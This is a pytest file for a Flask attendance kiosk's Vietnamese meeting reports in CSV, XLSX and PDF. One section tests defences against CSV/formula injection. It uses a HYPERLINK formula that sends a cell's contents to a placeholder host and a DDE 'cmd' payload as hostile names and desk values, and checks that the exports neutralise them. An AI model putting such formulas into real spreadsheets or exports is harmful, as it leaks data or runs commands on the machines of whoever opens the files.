"""The attendance report for the minutes, in each format, from /admin and the command line."""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Callable

import openpyxl
import pypdf
import pytest
from flask import Flask
from flask.testing import FlaskClient
from sqlalchemy import select

from kiosk.attendees.models import Attendee
from kiosk.events.service import current_event
from tests.conftest import db, walk_in_stored_as


def arrive(client: FlaskClient, number: str, desk: str = "Bàn 1") -> Attendee:
    person = db.session().scalars(select(Attendee).where(Attendee.number == number)).one()
    client.post("/api/v1/checkins", json={"attendee_id": person.id, "desk": desk})
    return person


def test_reports_list_arrivals_per_group(app: Flask, client: FlaskClient, login: Callable[[str], None]) -> None:
    login("admin")
    came = arrive(client, "HDND-002", "Bàn 2")
    rows = list(csv.reader(io.StringIO(client.get("/admin/reports/attendance.csv").data.decode("utf-8-sig"))))
    assert rows[0][:3] == ["STT", "Số thẻ", "Họ và tên"]
    row = next(r for r in rows if r[1] == "HDND-002")
    assert row[2] == came.full_name and row[5] != "vắng" and row[6] == "Bàn 2"
    assert next(r for r in rows if r[1] == "HDND-001")[5] == "vắng"
    assert any(r[0].startswith("HDND · Thường trực Hội đồng nhân dân xã — đã đến 1/3") for r in rows)

    sheet = openpyxl.load_workbook(io.BytesIO(client.get("/admin/reports/attendance.xlsx").data)).active
    values = [cell for row in sheet.iter_rows(values_only=True) for cell in row if cell]
    assert "BÁO CÁO ĐIỂM DANH ĐẠI BIỂU DỰ HỘI NGHỊ" in values and came.full_name in values

    pdf = pypdf.PdfReader(io.BytesIO(client.get("/admin/reports/attendance.pdf").data))
    text = " ".join(page.extract_text() for page in pdf.pages)
    assert "BÁO CÁO ĐIỂM DANH" in text and came.full_name in text and "Cẩm Giang" in text
    assert client.get("/admin/reports/attendance.doc").status_code == 404


def test_reports_need_the_admin(client: FlaskClient, login: Callable[[str], None]) -> None:
    login("reception")
    refused = client.get("/admin/reports/attendance.pdf")
    assert refused.status_code == 401 and "Đăng nhập: Quản trị" in refused.get_data(as_text=True)


# --- what people typed stays text (issue 14, item 1) ---------------------------------------------------

FORMULA_NAME = '=HYPERLINK("http://x/?x="&A1,"Xem thẻ")'
FORMULA_DESK = "=2+3"
# OWASP: a CSV cell starting with one of these is a formula to Excel and LibreOffice.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def pdf_fonts(reader: pypdf.PdfReader) -> dict[str, bool]:
    """Every font the pages use, and whether the PDF carries its glyphs (a TrueType font file)."""
    fonts: dict[str, bool] = {}
    for page in reader.pages:
        for font in page["/Resources"]["/Font"].values():
            font = font.get_object()
            descriptor = font.get("/FontDescriptor")
            if descriptor is None and "/DescendantFonts" in font:
                descriptor = font["/DescendantFonts"][0].get_object().get("/FontDescriptor")
            descriptor = descriptor.get_object() if descriptor is not None else {}
            fonts[str(font["/BaseFont"])] = any(key in descriptor for key in ("/FontFile", "/FontFile2", "/FontFile3"))
    return fonts


def assert_a_vietnamese_pdf_for_the_minutes(data: bytes, title: str, subject: str, author: str) -> str:
    """Every font embedded (no Helvetica, whose glyphs are the reader's), the metadata set; the text."""
    reader = pypdf.PdfReader(io.BytesIO(data))
    fonts = pdf_fonts(reader)
    assert fonts and all(fonts.values()), f"fonts not embedded: {fonts}"
    assert all("SourceSansPro" in name for name in fonts), fonts
    meta = reader.metadata
    assert (meta.title, meta.subject, meta.author) == (title, subject, author)
    return " ".join(" ".join(page.extract_text().split()) for page in reader.pages)


def test_a_walk_in_named_like_a_formula_stays_text_in_every_report(
        client: FlaskClient, login: Callable[[str], None]) -> None:
    login("admin")
    made = client.post("/api/v1/attendees", json={"group": "TH", "full_name": FORMULA_NAME, "unit": "@SUM(1+1)"})
    assert made.status_code == 201, made.get_json()
    attendee_id = made.get_json()["attendee"]["id"]
    assert client.post("/api/v1/checkins", json={"attendee_id": attendee_id, "desk": FORMULA_DESK}).status_code == 200

    book = openpyxl.load_workbook(io.BytesIO(client.get("/admin/reports/attendance.xlsx").data))
    cells = [cell for row in book.active.iter_rows() for cell in row if cell.value is not None]
    assert [c.coordinate for c in cells if c.data_type == "f"] == [], "a formula in the attendance workbook"
    by_value = {cell.value: cell for cell in cells}
    for typed in (FORMULA_NAME, FORMULA_DESK, "@SUM(1+1)"):
        assert by_value[typed].data_type == "s", typed  # text, shown exactly as typed

    response = client.get("/admin/reports/attendance.csv")
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    rows = list(csv.reader(io.StringIO(response.data.decode("utf-8-sig"))))
    row = next(r for r in rows if FORMULA_NAME in r[2])
    assert (row[2], row[4], row[6]) == ("'" + FORMULA_NAME, "'@SUM(1+1)", "'" + FORMULA_DESK)
    assert re.fullmatch(r"\d\d:\d\d", row[5]), "the arrival time is a time, not text to neutralise"
    assert not [cell for r in rows for cell in r if cell.startswith(FORMULA_STARTS)]


def test_the_attendance_pdf_embeds_its_vietnamese_font_and_says_what_it_is(
        app: Flask, client: FlaskClient, login: Callable[[str], None]) -> None:
    login("admin")
    came = arrive(client, "HDND-002", "Bàn 2")
    event = current_event(db.session())
    text = assert_a_vietnamese_pdf_for_the_minutes(
        client.get("/admin/reports/attendance.pdf").data, "BÁO CÁO ĐIỂM DANH ĐẠI BIỂU DỰ HỘI NGHỊ", event.title,
        event.organiser)
    assert came.full_name in text and "Thường trực Hội đồng nhân dân xã" in text


def test_a_control_character_typed_into_a_name_does_not_break_the_workbook(
        client: FlaskClient, login: Callable[[str], None]) -> None:
    """XLSX cannot hold most control characters (openpyxl raised, a server error): they are left out of the cell.

    The API refuses them now (kiosk.text.is_one_line); a name stored before that rule still holds them.
    """
    login("admin")
    walk_in_stored_as(client, "Lê\x01 Văn\x0b Tám")
    response = client.get("/admin/reports/attendance.xlsx")
    assert response.status_code == 200
    values = [c for row in openpyxl.load_workbook(io.BytesIO(response.data)).active.iter_rows(values_only=True)
              for c in row]
    assert "Lê Văn Tám" in values


def test_only_what_kiosk_computed_is_written_unquoted() -> None:
    """A figure is digits, separators and a sign; typed text cannot pass for one and skip the formula rule."""
    from kiosk.reports import Figure, csv_cell

    assert csv_cell(Figure("-00:32")) == "-00:32" and csv_cell(Figure("12/120")) == "12/120"
    assert csv_cell("-00:32") == "'-00:32" and csv_cell("\t=1") == "'\t=1" and csv_cell("Bàn 1") == "Bàn 1"
    for typed in ("=2+3", "-1+cmd|' /C calc'!A0", "@SUM(1)", "Bàn 2"):
        with pytest.raises(ValueError):
            Figure(typed)
